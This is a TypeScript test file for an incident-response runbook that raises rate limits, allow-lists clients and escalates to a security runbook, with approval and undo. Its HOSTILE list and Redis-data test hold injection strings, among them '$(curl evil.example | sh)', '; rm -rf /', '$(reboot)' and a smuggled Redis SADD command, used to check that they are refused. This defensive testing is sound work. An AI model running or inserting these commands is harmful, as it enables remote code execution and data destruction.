// Every branch of the Rate Limiting runbook in seconds: the real workflow on the time-skipping test server, its activities
// typed stubs (test/rate-limiting.test.ts runs it against the sandbox's real backend and Redis). The raise lasts 1 h of
// skipped time; hostile labels and hostile data from Redis never reach a write. Also the pure parts it decides by.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ApplicationFailure, Context } from '@temporalio/activity';
import { countRateLimited, type RateLimitLog } from '../src/activities/docker';
import type { RateLimitedSample, RateLimitedWait } from '../src/activities/metrics';
import { isClientAddress as activityIsClientAddress, type RaiseResult, type RateLimitSettings, type RateLimitStatus } from '../src/activities/redis';
import { incidentReport } from '../src/cli/format';
import type { ConfigInput } from '../src/config/schema';
import { AlertSchema } from '../src/intake/alertmanager';
import { alertFiringSignal, alertResolvedSignal, approveUpdate, rejectUpdate, resolveUpdate, statusQuery } from '../src/workflows/lifecycle/definitions';
import { isClientAddress } from '../src/workflows/rateLimiting';
import { timeSkippingIncidents, type ActivityStubs } from './support/timeSkipping';

const HOUR = 3_600_000;
const incidents = timeSkippingIncidents({ taskQueuePrefix: 'rate-branches', runbook: 'rate-limiting', labels: { alertname: 'RateLimitExceeded', service: 'backend' } });
const { observe, outcomeOf, calls, pages } = incidents;

const config: ConfigInput = {
  targets: {
    backend: { container: 'backend', healthUrl: 'http://127.0.0.1:9/health', metricsUrl: 'http://127.0.0.1:9/metrics' },
    redis: { container: 'redis', url: 'redis://127.0.0.1:9/0' },
  },
  approvers: { 'raise-rate-limit': ['dana'], 'allow-client': ['dana'] },
};

/** Every string of issue 8 §3 that must end up refused or a harmless literal. */
const HOSTILE = [
  "1.2.3.4' OR '1'='1",
  '1.2.3.4; rm -rf /',
  '$(curl evil.example | sh)',
  '1.2.3.4\nSADD allowlist:ips 0.0.0.0',
  '1.2.3.4\u0000',
  '9'.repeat(10_240),
  '0.0.0.0/0',
  '::/0',
  '0.0.0.0',
  '::',
  'evil.example.com',
  'rate_limit:*',
];

const SPIKE_CLIENTS = ['198.51.100.1', '198.51.100.2', '198.51.100.3', '198.51.100.4', '198.51.100.5'];

interface Script {
  /** Clients and their counters in Redis (default: a spike of five clients with 200 each). */
  counters?: Array<[string, number]>;
  settings?: Partial<RateLimitSettings>;
  /** 429s per minute at the diagnosis (default 400). */
  perMinute?: number;
  /** Whether verification finds 429s under the threshold (default true). */
  recovers?: boolean;
  raise?: (arg: { expected: number | null; value: number }) => RaiseResult;
}

/** Stubs for one incident, and every Redis write it asked for, in order. */
interface Write {
  activity: string;
  arg: unknown;
}

function rateStubs(script: Script = {}): { stubs: ActivityStubs; writes: Write[] } {
  const writes: Write[] = [];
  const counters = script.counters ?? SPIKE_CLIENTS.map((c): [string, number] => [c, 200]);
  const total = counters.reduce((sum, [, n]) => sum + n, 0);
  const status: RateLimitStatus = {
    keys: counters.length,
    top: [...counters].sort((a, b) => b[1] - a[1]).map(([client, count]) => ({ key: `rate_limit:${client}`, client, count })),
    total,
    truncated: false,
  };
  const log: RateLimitLog = { container: 'backend', linesRead: 2_000, rateLimited: 400, top: counters.slice(0, 3).map(([client]) => ({ client, count: 80, share: 0.2 })) };
  const sample = (perMinute: number): RateLimitedSample => ({ windowMs: 15_000, rateLimited: perMinute / 4, requests: 500, perMinute });
  const stubs: ActivityStubs = {
    rateLimitStatus: async () => status,
    rateLimitLog: async () => log,
    rateLimitSettings: async () => ({ limit: 120, source: 'default', allowListed: 0, ...script.settings }),
    sampleRateLimited: async () => sample(script.perMinute ?? 400),
    waitForRateLimited: async (): Promise<RateLimitedWait> => {
      const recovers = script.recovers ?? true;
      return { ...sample(recovers ? 0 : 300), belowThreshold: recovers, samples: recovers ? 1 : 8 };
    },
    raiseRateLimit: async (arg) => {
      writes.push({ activity: 'raiseRateLimit', arg });
      return script.raise ? script.raise(arg) : { outcome: 'raised', limit: arg.value };
    },
    restoreRateLimit: async (arg) => {
      writes.push({ activity: 'restoreRateLimit', arg });
      return { outcome: 'restored', limit: arg.previous };
    },
    allowClient: async (arg) => {
      writes.push({ activity: 'allowClient', arg });
      return { added: true, allowListed: 1 };
    },
  };
  return { stubs, writes };
}

const messagesOf = (timeline: { message: string }[]) => timeline.map((e) => e.message);

async function raisedAndHeld(script: Script = {}, labels: Record<string, string> = {}): Promise<{ incident: Awaited<ReturnType<typeof incidents.startIncident>>; writes: Write[]; held: Awaited<ReturnType<typeof observe>> }> {
  const { stubs, writes } = rateStubs(script);
  const incident = await incidents.startIncident(labels, config, stubs);
  const waiting = await observe(incident);
  assert.deepEqual(waiting.pendingApprovals.map((p) => p.step), ['raise-rate-limit'], messagesOf(waiting.timeline).join('\n'));
  assert.match(waiting.pendingApprovals[0]!.question, /^400 429\(s\) per minute, no single client is most of the traffic: a legitimate spike\. Raise the rate limit from (\d+) to (\d+) per client and window for 60 min, then put it back\?$/);
  assert.deepEqual(writes, [], 'nothing is written before approval');
  await incident.executeUpdate(approveUpdate, { args: [{ step: 'raise-rate-limit', by: 'dana' }] });
  const held = await observe(incident);
  return { incident, writes, held };
}

describe('the rate limit log and client addresses', () => {
  test('"Rate limit exceeded" lines are counted by their last field, most first, with their share', () => {
    const T = '2026-11-27T10:00:00.000Z';
    const lines = [
      `${T} WARN Rate limit exceeded 203.0.113.7`,
      `${T} 203.0.113.7 GET /api/v1/documents duration 1ms status=429 user=-`,
      `${T} WARN Rate limit exceeded 203.0.113.7`,
      `${T} WARN Rate limit exceeded 198.51.100.1`,
      `${T} INFO Redis is reachable again: rate limiting uses Redis`,
    ];
    assert.deepEqual(countRateLimited(lines), {
      rateLimited: 3,
      top: [
        { client: '203.0.113.7', count: 2, share: 2 / 3 },
        { client: '198.51.100.1', count: 1, share: 1 / 3 },
      ],
    });
    assert.deepEqual(countRateLimited([]), { rateLimited: 0, top: [] });
  });

  test('one plain IP address is a client; networks, hostnames, the unspecified address and injection strings are not (workflow and activity agree)', () => {
    for (const ok of ['203.0.113.7', '10.0.0.1', '2001:db8::1', '::1', 'fe80::1:2:3:4', '::ffff:192.0.2.1', '1:2:3:4:5:6:7:8']) {
      assert.equal(isClientAddress(ok), true, ok);
      assert.equal(activityIsClientAddress(ok), true, ok);
    }
    for (const bad of [...HOSTILE, '256.1.1.1', '1.2.3', '01.2.3.4', '1:2:3:4:5:6:7:8:9', '1::2::3', '', ' 1.2.3.4']) {
      assert.equal(isClientAddress(bad), false, JSON.stringify(bad.slice(0, 40)));
      assert.equal(activityIsClientAddress(bad), false, JSON.stringify(bad.slice(0, 40)));
    }
  });

  test('the webhook refuses labels with NUL and labels over 2048 characters before any runbook sees them', () => {
    const alert = (ip: string) => ({ status: 'firing', labels: { alertname: 'RateLimitExceeded', ip }, startsAt: '2026-11-27T10:00:00Z', fingerprint: 'ab12' });
    assert.equal(AlertSchema.safeParse(alert('1.2.3.4\u0000')).success, false);
    assert.equal(AlertSchema.safeParse(alert('9'.repeat(10_240))).success, false);
    assert.equal(AlertSchema.safeParse(alert('1.2.3.4; rm -rf /')).success, true, 'the rest reach the runbook, which refuses them itself');
  });
});

describe('Rate Limiting runbook, branch by branch (time-skipping server, stub activities)', { timeout: 180_000 }, () => {
  before(() => incidents.start());
  after(() => incidents.stop());

  test('a legitimate spike: approved, the limit is raised once, held for 1 h (shown as due), then put back by its durable timer', async () => {
    const { incident, writes, held } = await raisedAndHeld();
    const messages = messagesOf(held.timeline);
    assert.ok(messages.includes('5 rate_limit:* key(s), 1000 request(s) in the current windows; busiest: 198.51.100.1 200, 198.51.100.2 200, 198.51.100.3 200, 198.51.100.4 200, 198.51.100.5 200.'), messages.join('\n'));
    assert.ok(messages.includes('Top requester: 198.51.100.1, 200 request(s), 20% of all requests in the current windows.'), messages.join('\n'));
    const top = held.timeline.find((e) => e.message.startsWith('Top requester'))!;
    assert.deepEqual(top.data, { client: '198.51.100.1', count: 200, share: 0.2, from: 'redis counters' });
    assert.ok(messages.includes('Raised the rate limit from 120 to 240.'), messages.join('\n'));
    assert.ok(messages.some((m) => /^The rate limit goes back to unset \(the backend's default, 120\) at \S+ \(in 60 min, on a durable timer\)/.test(m)));
    assert.ok(messages.includes('429s are back under 10 per minute: 0/min (0 of 500 request(s) over 15 s).'));
    assert.deepEqual(writes, [{ activity: 'raiseRateLimit', arg: { target: 'redis', incident: incident.workflowId, expected: null, value: 240, recordTtlMs: 2 * HOUR } }]);

    // Held open while the raise lasts, and the status view (and `runbooks show`) says when it goes back.
    assert.equal(held.phase, 'remediating');
    assert.match(held.currentStep, /^Waiting to undo: put the rate limit back to unset \(the backend's default, 120\) at \S+$/);
    const [undo] = held.undos ?? [];
    assert.equal(undo?.state, 'pending');
    const raisedAt = Date.parse(held.timeline.find((e) => e.message === 'Raised the rate limit from 120 to 240.')!.at);
    assert.ok(Math.abs(Date.parse(undo!.dueAt!) - raisedAt - HOUR) < 5_000, `${undo!.dueAt} is 1 h after ${new Date(raisedAt).toISOString()}`);
    assert.match(incidentReport(held), /Undo steps:\n {2}- put the rate limit back to unset \(the backend's default, 120\): due \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ \(or when the incident closes, if sooner\)/);

    // The alert re-sent, twice: nothing is raised again.
    await incident.signal(alertFiringSignal, {});
    await incident.signal(alertFiringSignal, {});
    await incidents.env.sleep(HOUR - 60_000);
    assert.equal((await observe(incident)).phase, 'remediating', 'still held a minute before the hour');
    assert.equal(calls(incident).restoreRateLimit, undefined);

    await incidents.env.sleep(2 * 60_000);
    const outcome = await outcomeOf(incident);
    assert.equal(outcome.resolution, 'remediated');
    assert.deepEqual(writes.map((w) => w.activity), ['raiseRateLimit', 'restoreRateLimit']);
    assert.deepEqual(writes[1]!.arg, { target: 'redis', incident: incident.workflowId, previous: null, raised: 240 });
    const undone = outcome.timeline.filter((e) => e.kind === 'undo');
    assert.deepEqual(messagesOf(undone), ["Put the rate limit back to unset (the backend's default, 120). (its time is up)"]);
    assert.ok(Date.parse(undone[0]!.at) - raisedAt >= HOUR);
  });

  test('closed early by a human: the limit goes back at once, not an hour later', async () => {
    const { incident, writes } = await raisedAndHeld({ settings: { limit: 150, source: 'redis' } });
    assert.equal(writes.length, 1);
    await incidents.env.sleep(10 * 60_000);
    await incident.executeUpdate(resolveUpdate, { args: [{ by: 'dana', note: 'traffic is back to normal' }] });
    const outcome = await outcomeOf(incident);
    assert.deepEqual(writes.map((w) => w.activity), ['raiseRateLimit', 'restoreRateLimit']);
    assert.deepEqual(writes[1]!.arg, { target: 'redis', incident: incident.workflowId, previous: 150, raised: 300 });
    const undo = outcome.timeline.find((e) => e.kind === 'undo')!;
    assert.equal(undo.message, 'Put the rate limit back to 150. (the incident is closing)');
    const raisedAt = Date.parse(outcome.timeline.find((e) => e.message === 'Raised the rate limit from 150 to 300.')!.at);
    assert.ok(Date.parse(undo.at) - raisedAt < 20 * 60_000, 'long before the hour');
  });

  test('the alert resolves while the raise lasts: the raise is not cut short; the timer still puts it back after the hour', async () => {
    const { incident, writes } = await raisedAndHeld();
    await incident.signal(alertResolvedSignal, {});
    await incidents.env.sleep(30 * 60_000);
    const half = await observe(incident);
    assert.equal(half.alertResolved, true);
    assert.notEqual(half.phase, 'resolved');
    assert.deepEqual(writes.map((w) => w.activity), ['raiseRateLimit'], 'not reverted at the alert\'s resolution');
    await incidents.env.sleep(31 * 60_000);
    const outcome = await outcomeOf(incident);
    assert.deepEqual(writes.map((w) => w.activity), ['raiseRateLimit', 'restoreRateLimit']);
    assert.ok(outcome.timeline.some((e) => e.kind === 'undo' && e.message.endsWith('(its time is up)')));
  });

  test('a rejected raise changes nothing and leaves the incident to a human', async () => {
    const { stubs, writes } = rateStubs();
    const incident = await incidents.startIncident({}, config, stubs);
    await observe(incident);
    await incident.executeUpdate(rejectUpdate, { args: [{ step: 'raise-rate-limit', by: 'dana', reason: 'a marketing campaign we did not plan for' }] });
    const status = await observe(incident);
    assert.equal(status.phase, 'needs-human');
    assert.ok(messagesOf(status.timeline).includes('Raising the rate limit was not approved: it stays at 120.'));
    assert.deepEqual(writes, []);
    assert.deepEqual(status.undos, []);
    await incident.terminate('test over');
  });

  test('a raise whose activity is retried (its first completion lost) is done once: the retry finds it done', async () => {
    let limit: number | null = null;
    let attempts = 0;
    const { stubs, writes } = rateStubs();
    stubs.raiseRateLimit = async ({ incident, expected, value }) => {
      attempts += 1;
      writes.push({ activity: 'raiseRateLimit', arg: { incident, expected, value } });
      if (limit === value) return { outcome: 'already-raised', limit };
      limit = value;
      if (Context.current().info.attempt === 1) throw ApplicationFailure.retryable('the worker lost the reply');
      return { outcome: 'raised', limit };
    };
    const incident = await incidents.startIncident({}, config, stubs);
    await observe(incident);
    await incident.executeUpdate(approveUpdate, { args: [{ step: 'raise-rate-limit', by: 'dana' }] });
    const held = await observe(incident);
    assert.equal(attempts, 2);
    assert.ok(messagesOf(held.timeline).includes('The rate limit was raised to 240 already by this incident: not raised twice.'));
    assert.equal(held.timeline.filter((e) => e.kind === 'action').length, 1);
    assert.equal(held.undos?.length, 1, 'one undo');
    await incident.terminate('test over');
  });

  test("another incident's raise in place: not raised again, escalated", async () => {
    const { stubs, writes } = rateStubs({ settings: { limit: 240, source: 'redis', raise: { incident: 'HighRequestRate-0123', previous: null, value: 240, at: '2026-11-27T10:00:00.000Z' } } });
    const incident = await incidents.startIncident({}, config, stubs);
    const status = await observe(incident);
    assert.equal(status.pendingApprovals.length, 0);
    assert.ok(status.timeline.some((e) => e.kind === 'escalated' && e.message.startsWith('The limit is already raised to 240 by HighRequestRate-0123')));
    assert.deepEqual(writes, []);
    await incident.terminate('test over');
  });

  test('429s under the threshold: nothing to change, resolved at once', async () => {
    const { stubs, writes } = rateStubs({ perMinute: 4 });
    const outcome = await outcomeOf(await incidents.startIncident({ alertname: 'HighRequestRate' }, config, stubs));
    assert.equal(outcome.resolution, 'remediated');
    assert.ok(messagesOf(outcome.timeline).includes('4 429(s) per minute is under 10: legitimate traffic is not being blocked, nothing to change.'));
    assert.deepEqual(writes, []);
  });

  test('one client is most of the traffic: allow-listed once approved, verified by fewer 429s, a follow-up to review it', async () => {
    const { stubs, writes } = rateStubs({ counters: [['203.0.113.7', 900], ['198.51.100.1', 60], ['198.51.100.2', 40]] });
    const incident = await incidents.startIncident({}, config, stubs);
    const waiting = await observe(incident);
    assert.deepEqual(waiting.pendingApprovals.map((p) => p.kind), ['allow-client']);
    assert.equal(
      waiting.pendingApprovals[0]!.question,
      '203.0.113.7 is 90% of the traffic (900 request(s), from the redis counters). Allow-list it as a legitimate high-volume client (never rate limited)? Reject to hand it over to security as a possible attack.',
    );
    await incident.executeUpdate(approveUpdate, { args: [{ step: 'allow-client', by: 'dana' }] });
    const outcome = await outcomeOf(incident);
    assert.equal(outcome.resolution, 'remediated');
    assert.deepEqual(writes, [{ activity: 'allowClient', arg: { target: 'redis', client: '203.0.113.7' } }]);
    assert.ok(messagesOf(outcome.timeline).includes('Allow-listed 203.0.113.7 (1 client(s) allow-listed).'));
    assert.ok(outcome.timeline.some((e) => e.kind === 'follow-up' && e.message.startsWith('Review the allow-list entry of 203.0.113.7')));
  });

  test('one client, not allow-listed: handed over to the security runbook as a child SuspiciousActivity incident for its IP (linked both ways), escalated, nothing written', async () => {
    const { stubs, writes } = rateStubs({ counters: [['203.0.113.7', 900], ['198.51.100.1', 100]] });
    const incident = await incidents.startIncident({}, config, stubs);
    await observe(incident);
    await incident.executeUpdate(rejectUpdate, { args: [{ step: 'allow-client', by: 'dana', reason: 'we do not know this client' }] });
    const status = await observe(incident);
    assert.equal(status.phase, 'needs-human');
    const childId = `SuspiciousActivity-from-${incident.workflowId}`;
    const handOver = status.timeline.find((e) => e.message === `Handed over to the security-incident runbook: ${childId} (SuspiciousActivity).`);
    assert.ok(handOver, JSON.stringify(status.timeline.map((e) => e.message), null, 1));
    const child = incidents.env.client.workflow.getHandle(childId);
    const described = await child.describe();
    assert.equal(described.type, 'securityIncident');
    assert.equal(described.raw.workflowExecutionInfo?.parentExecution?.workflowId, incident.workflowId, 'the child names its parent');
    const childStatus = await child.query(statusQuery);
    const alertLabels = childStatus.trigger.kind === 'alert' ? childStatus.trigger.alert.labels : {};
    assert.equal(alertLabels.ip, '203.0.113.7');
    assert.equal(alertLabels.handed_over_by, incident.workflowId);
    await child.terminate('test over');
    assert.ok(status.timeline.some((e) => e.kind === 'escalated' && e.message.startsWith('Possible attack from 203.0.113.7 (90% of the traffic): handed over to security')));
    assert.ok(pages.some((p) => p.workflowId === incident.workflowId && p.text.includes('Possible attack from 203.0.113.7')));
    assert.deepEqual(writes, []);
    await incident.terminate('test over');
  });

  test('hostile values in every label are refused or kept literal; no Redis write ever carries them', async () => {
    for (const value of HOSTILE) {
      const labels = { ip: value, service: value, instance: value, client: value, severity: value };
      const { stubs, writes } = rateStubs({ counters: [['203.0.113.7', 900], ['198.51.100.1', 100]] });
      const incident = await incidents.startIncident(labels, config, stubs);
      const status = await observe(incident);
      const refusal = status.timeline.find((e) => e.message.startsWith("Ignored the alert's label ip: it is not one client's IP address ("));
      assert.ok(refusal, `${JSON.stringify(value.slice(0, 40))}: ${messagesOf(status.timeline).join('\n')}`);
      assert.ok(!refusal.message.includes('\n') && !refusal.message.includes('\u0000') && refusal.message.length < 300, 'a one-line literal');
      assert.ok(!status.timeline.some((e) => e.kind === 'finding' && e.message.includes(`names client ${value}`)));
      assert.deepEqual(status.pendingApprovals.map((p) => p.question.includes(value)), [false], 'the approval names the client Redis shows, not the label');
      await incident.executeUpdate(approveUpdate, { args: [{ step: 'allow-client', by: 'dana' }] });
      await observe(incident);
      assert.deepEqual(writes, [{ activity: 'allowClient', arg: { target: 'redis', client: '203.0.113.7' } }], JSON.stringify(value.slice(0, 40)));
      await incident.terminate('test over').catch(() => undefined);
    }
  });

  test('hostile data in Redis (a counter key that is no client address) is never allow-listed or blocked: escalated', async () => {
    for (const client of ['0.0.0.0/0', '::/0', '; rm -rf /', 'evil.example.com', '$(reboot)']) {
      const { stubs, writes } = rateStubs({ counters: [[client, 900], ['198.51.100.1', 100]] });
      const incident = await incidents.startIncident({}, config, stubs);
      const status = await observe(incident);
      assert.equal(status.pendingApprovals.length, 0, client);
      assert.ok(status.timeline.some((e) => e.kind === 'escalated' && e.message.startsWith(`The top requester is not one client's IP address (${JSON.stringify(client)})`)), messagesOf(status.timeline).join('\n'));
      assert.deepEqual(writes, []);
      await incident.terminate('test over');
    }
  });

  test('a label naming a real client is reported, never acted on by itself', async () => {
    const { stubs, writes } = rateStubs({ perMinute: 0 });
    const outcome = await outcomeOf(await incidents.startIncident({ ip: '2001:db8::7' }, config, stubs));
    assert.ok(outcome.timeline.some((e) => e.kind === 'finding' && e.message === 'The alert names client 2001:db8::7 (label ip).'));
    assert.deepEqual(writes, []);
  });
});
